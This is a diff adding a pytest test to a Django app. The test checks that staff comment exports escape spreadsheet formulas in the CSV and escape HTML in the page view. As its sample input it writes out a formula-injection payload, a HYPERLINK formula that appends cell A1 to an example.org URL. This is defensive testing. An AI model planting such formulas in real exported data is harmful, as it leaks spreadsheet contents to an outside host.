@@ -114,3 +114,18 @@ def test_only_staff_read_remarks():
     batch = make_batch()
     for name in ("comments", "comments-csv"):
         assert Client().get(reverse(f"batches:{name}", args=[batch.pk])).status_code == 302
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
+def test_a_spreadsheet_reads_no_remark_as_a_formula(staff, first):
+    batch = make_batch()
+    remark = f'{first}HYPERLINK("https://example.org/?"&A1)'
+    save_comment(assignment=make_assignment(batch), text=remark, now=NOW)
+    save_comment(assignment=make_assignment(batch), text="1 = 1", now=NOW + timedelta(minutes=1))
+    content = b"".join(staff.get(reverse("batches:comments-csv", args=[batch.pk])).streaming_content)
+    rows = csv.DictReader(content.decode().splitlines())
+    assert [row["comment"] for row in rows] == ["1 = 1", f"'{remark}"]
+    assert (
+        remark.replace('"', "&quot;").replace("&A1", "&amp;A1")
+        in staff.get(reverse("batches:comments", args=[batch.pk])).content.decode()
+    )
